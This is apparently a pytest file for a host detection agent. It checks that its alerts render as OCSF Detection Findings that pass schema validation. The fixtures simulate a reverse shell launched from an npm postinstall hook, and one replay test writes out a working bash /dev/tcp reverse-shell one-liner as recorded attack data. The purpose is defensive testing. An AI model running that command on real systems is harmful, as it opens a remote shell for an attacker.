"""OCSF rendering: every alert becomes a Detection Finding that validates against the OCSF schema.

The schema is OCSF's own export, as packaged by ocsf-json-schema (a test dependency: it ships every OCSF
release from 1.0 to 1.8 as data and turns a class into a JSON Schema, offline), checked with jsonschema.
The class schema forbids attributes OCSF does not define, so a misspelt or invented field fails too.
"""

from __future__ import annotations

import copy
import json
from datetime import timezone
from functools import cache
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from ocsf_json_schema import OcsfJsonSchemaEmbedded, get_ocsf_schema

from agent.ocsf import OCSF_VERSION, to_ocsf
from agent.sinks import AlertSink
from tests.helpers.events import REMOTE
from tests.replay.test_detection_replay import HOST_META, replay, script

# The contract's example alert (shared/design/contracts.md), every field present.
CONTRACT_ALERT: dict[str, Any] = {
    "@timestamp": "2026-11-23T10:00:00.123456Z",
    "event": {
        "kind": "alert",
        "id": "3f0c9c1e-1111-4c3a-9d7e-5a1b2c3d4e5f",
        "severity": 73,
        "reason": "bash connected to 198.51.100.2:4444 with its stdio on the socket",
        "category": ["process", "network"],
    },
    "rule": {
        "id": "7d9e0c1a-2222-4b3c-8d7e-6a1b2c3d4e5f",
        "name": "Reverse shell in package install",
        "ruleset": "chainwatch",
    },
    "host": {"hostname": "build-7", "id": "0123456789abcdef0123456789abcdef"},
    "process": {
        "pid": 4242,
        "entity_id": "e-4242",
        "name": "bash",
        "executable": "/usr/bin/bash",
        "args": ["bash", "-i"],
        "user": {"id": "0"},
        "parent": {"pid": 4241, "entity_id": "e-4241", "name": "sh", "executable": "/usr/bin/dash"},
    },
    "destination": {"ip": "198.51.100.2", "port": 4444},
    "network": {"transport": "tcp", "type": "ipv4", "direction": "egress"},
    "file": {"path": "/etc/cron.d/x"},
    "supply_chain": {
        "context": "package_install_npm",
        "package": {"manager": "npm", "name": "evil-pkg", "version": "1.0.3", "hook": "postinstall"},
    },
    "threat": {"technique": {"id": ["T1059.004"]}},
    "chainwatch": {
        "severity": "high",
        "incident": {"id": "9a8b7c6d-3333-4e5f-a1b2-c3d4e5f6a7b8"},
        "signals": ["stdio_to_socket"],
        "ancestry": [
            {"pid": 4241, "name": "sh", "args": ["sh", "-c", "node install.js"]},
            {"pid": 4200, "name": "npm", "args": ["npm", "install"]},
        ],
        "response": [],
    },
}


@cache
def validator() -> jsonschema.protocols.Validator:
    schema = OcsfJsonSchemaEmbedded(get_ocsf_schema(version=OCSF_VERSION))
    class_schema = schema.get_class_schema(class_name="detection_finding", profiles=["host"])
    cls = jsonschema.validators.validator_for(class_schema)
    cls.check_schema(class_schema)
    return cls(class_schema)  # type: ignore[no-any-return]


def errors(doc: dict[str, Any]) -> list[str]:
    return [f"{e.json_path}: {e.message[:200]}" for e in validator().iter_errors(doc)]


def variants() -> list[tuple[str, dict[str, Any]]]:
    ingress = copy.deepcopy(CONTRACT_ALERT)
    ingress["source"] = {"ip": "2001:db8::7", "port": 50123}
    ingress["destination"] = {"ip": "10.0.0.5", "port": 31337}
    ingress["network"] = {"transport": "tcp", "type": "ipv6", "direction": "ingress"}
    del ingress["file"]
    persistence = copy.deepcopy(CONTRACT_ALERT)
    for key in ("destination", "network", "supply_chain"):
        del persistence[key]
    persistence["event"]["severity"] = 99
    minimal = {
        "@timestamp": "2026-11-23T10:00:00Z",
        "event": {"kind": "alert", "id": "x", "severity": 21},
        "rule": {"name": "Sensor degraded"},
        "host": {"hostname": "h"},
        "chainwatch": {"severity": "low"},
    }
    return [("contract", CONTRACT_ALERT), ("ingress-ipv6", ingress), ("persistence", persistence), ("minimal", minimal)]


@pytest.mark.parametrize(("name", "alert"), variants(), ids=[n for n, _ in variants()])
def test_ocsf_documents_validate(name: str, alert: dict[str, Any]) -> None:
    """Each shape of alert renders to a Detection Finding the OCSF schema accepts."""
    doc = to_ocsf(alert)
    assert errors(doc) == [], name
    assert (doc["class_uid"], doc["category_uid"], doc["type_uid"]) == (2004, 2, 200401)


def test_the_schema_check_can_fail() -> None:
    """The validator rejects what OCSF does not define: an unknown attribute, a severity_id outside the
    enum, a finding without finding_info."""
    doc = to_ocsf(CONTRACT_ALERT)
    assert errors({**doc, "chainwatch_extra": 1})
    assert errors({**doc, "severity_id": 7})
    assert errors({k: v for k, v in doc.items() if k != "finding_info"})


def test_ocsf_mapping_of_the_contract_alert() -> None:
    """Ids, severity, time, product, the process with its parent and ancestry, and the evidences."""
    doc = to_ocsf(CONTRACT_ALERT)
    assert doc["severity_id"] == 4 and doc["severity"] == "High" and doc["risk_score"] == 73
    assert doc["time"] == 1795428000123  # 2026-11-23T10:00:00.123Z in ms
    assert doc["metadata"]["version"] == OCSF_VERSION and doc["metadata"]["product"]["name"] == "chainwatch"
    assert doc["metadata"]["correlation_uid"] == CONTRACT_ALERT["chainwatch"]["incident"]["id"]
    info = doc["finding_info"]
    assert info["uid"] == CONTRACT_ALERT["event"]["id"] and info["title"] == "Reverse shell in package install"
    assert info["analytic"]["uid"] == CONTRACT_ALERT["rule"]["id"]
    assert info["attacks"] == [{"technique": {"uid": "T1059.004"}}]
    process = doc["actor"]["process"]
    assert process["pid"] == 4242 and process["cmd_line"] == "bash -i" and process["file"]["path"] == "/usr/bin/bash"
    assert process["parent_process"]["pid"] == 4241
    assert [a["pid"] for a in process["ancestry"]] == [4241, 4200]
    assert process["ancestry"][0]["cmd_line"] == "sh -c 'node install.js'"
    kinds = [sorted(set(e) - {"name"}) for e in doc["evidences"]]
    assert kinds == [["process"], ["connection_info", "dst_endpoint"], ["file"]]
    assert doc["evidences"][1]["dst_endpoint"] == {"ip": "198.51.100.2", "port": 4444}
    assert doc["evidences"][1]["connection_info"]["direction_id"] == 2
    assert doc["unmapped"]["supply_chain"]["package"]["name"] == "evil-pkg"
    assert {2: 21, 3: 47, 4: 73, 5: 99} == {
        to_ocsf({**CONTRACT_ALERT, "event": {"severity": s}})["severity_id"]: s for s in (21, 47, 73, 99)
    }


def test_real_alerts_from_a_replay_validate(tmp_path: Path) -> None:
    """Alerts the detection pipeline really makes (a replayed bash /dev/tcp shell) validate as OCSF."""
    s = script()
    s.spawn(100, None, "/usr/sbin/sshd", ("sshd: ci@notty",), t=0)
    s.spawn(200, 100, "/usr/bin/bash", ("bash", "-c", f"bash -i >& /dev/tcp/{REMOTE}/4444 0>&1"), t=1)
    s.connect(200, REMOTE, 4444, t=1.01)
    for fd in (0, 1, 2):
        s.dup(200, fd, t=1.02 + fd / 1000, daddr=REMOTE, dport=4444)
    s.write_recording(tmp_path / "attack.cwrec", HOST_META)
    alerts = replay(tmp_path / "attack.cwrec", tmp_path / "alerts.jsonl")
    assert alerts
    for alert in alerts:
        doc = to_ocsf(alert)
        assert errors(doc) == []
        assert doc["actor"]["process"]["parent_process"]["file"]["path"] == "/usr/sbin/sshd"


def test_file_output_in_ocsf_format(tmp_path: Path) -> None:
    """alerts_format = "ocsf" writes one valid Detection Finding per line to a file output."""
    out = tmp_path / "alerts.ocsf.jsonl"
    sink = AlertSink([str(out)], alerts_format="ocsf")
    sink.put(CONTRACT_ALERT)
    sink.close()
    [line] = out.read_text().splitlines()
    doc = json.loads(line)
    assert doc["class_uid"] == 2004 and errors(doc) == []


def _alerts() -> st.SearchStrategy[dict[str, Any]]:
    """ECS alerts as the agent makes them, with any of the optional parts present or not."""
    text = st.text(max_size=30)
    parts = {
        "entity_id": text,
        "executable": text,
        "args": st.lists(text, max_size=4),
        "user": st.fixed_dictionaries({"id": text}),
    }
    parent = st.fixed_dictionaries({"pid": st.integers(0, 2**22), "name": text}, optional=parts)
    proc = st.fixed_dictionaries({"pid": st.integers(0, 2**22), "name": text}, optional={**parts, "parent": parent})
    endpoint = st.fixed_dictionaries({"ip": st.ip_addresses().map(str), "port": st.integers(0, 65535)})
    return st.fixed_dictionaries(
        {
            "@timestamp": st.datetimes(timezones=st.just(timezone.utc)).map(
                lambda d: d.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
            ),
            "event": st.fixed_dictionaries(
                {"kind": st.just("alert"), "id": text, "severity": st.sampled_from([21, 47, 73, 99])},
                optional={"reason": text, "category": st.lists(text, max_size=2)},
            ),
            "rule": st.fixed_dictionaries({"name": text}, optional={"id": text, "ruleset": text}),
            "host": st.fixed_dictionaries({}, optional={"hostname": text, "id": text}),
            "chainwatch": st.fixed_dictionaries(
                {"severity": text},
                optional={
                    "incident": st.fixed_dictionaries({"id": text}),
                    "signals": st.lists(text, max_size=3),
                    "ancestry": st.lists(
                        st.fixed_dictionaries(
                            {"pid": st.integers(0, 2**22), "name": text, "args": st.lists(text, max_size=3)}
                        ),
                        max_size=4,
                    ),
                    "response": st.just([]),
                },
            ),
        },
        optional={
            "process": proc,
            "destination": endpoint,
            "source": endpoint,
            "network": st.fixed_dictionaries(
                {"transport": st.sampled_from(["tcp", "udp"]), "type": st.sampled_from(["ipv4", "ipv6"])},
                optional={"direction": st.sampled_from(["ingress", "egress"])},
            ),
            "file": st.fixed_dictionaries({"path": text}),
            "supply_chain": st.fixed_dictionaries({"context": st.none() | text}),
            "threat": st.fixed_dictionaries({"technique": st.fixed_dictionaries({"id": st.lists(text, max_size=3)})}),
        },
    )


@settings(max_examples=150, deadline=None)
@given(_alerts())
def test_any_alert_renders_to_a_valid_finding(alert: dict[str, Any]) -> None:
    """Whatever optional parts an alert has or lacks, its rendering validates."""
    assert errors(to_ocsf(alert)) == []
